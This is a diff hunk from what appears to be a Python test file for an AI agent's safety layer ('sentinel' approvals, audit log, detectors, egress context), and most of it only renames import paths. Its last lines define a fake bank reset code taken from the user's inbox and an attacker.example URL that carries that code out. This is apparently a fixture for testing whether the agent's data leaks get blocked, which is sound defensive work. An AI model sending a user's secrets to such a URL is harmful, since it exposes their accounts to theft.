@@ -34,24 +34,24 @@ from agent.testing import FunctionModel, message_text, tool_call
 from bot.goal_controls import apply_edit, press_goal_control
 from bot.handlers import Handlers
 from bot.services import BotServices
-from connectors.base import EffectClass
-from deputy.handoff import CodeField, HandOffRecorder, HandOffStore
-from deputy.outbox import Outbox
+from core.effects import EffectClass
+from core.handoff import CodeField, HandOffRecorder, HandOffStore
+from core.outbox import Outbox
 from memory import MemoryStore
 from sandbox.world import World, WorldEmail
 from sandbox.world_operations import world_catalog
-from sentinel.action_store import ActionStore
-from sentinel.approvals import ApprovalSigner, ApprovalStore
-from sentinel.audit import AuditLog
+from sentinel.stores.action_store import ActionStore
+from sentinel.stores.approvals import ApprovalSigner, ApprovalStore
+from sentinel.stores.audit import AuditLog
 from sentinel.detectors import HeuristicDetector
-from sentinel.rule_store import RuleStore
+from sentinel.stores.rule_store import RuleStore
 from sentinel.rules import RuleConditions, RuleScope, UserRule
-from workers.egress_context import egress_context_for
-from workers.executor import Executor
-from workers.handoffs import HandOffService
+from executor.egress_context import egress_context_for
+from executor.executor import Executor
+from executor.handoffs import HandOffService
 from workers.inline import InlineDispatch
-from workers.payloads import HandOffCodeJob
-from workers.review_context import ReviewContextBuilder, add_contact, stored_rules
+from core.payloads import HandOffCodeJob
+from executor.review_context import ReviewContextBuilder, add_contact, stored_rules
 
 PRIVATE = "449102"  # the user's bank reset code, in their own inbox
 ATTACKER_URL = f"https://attacker.example/?d={PRIVATE}"
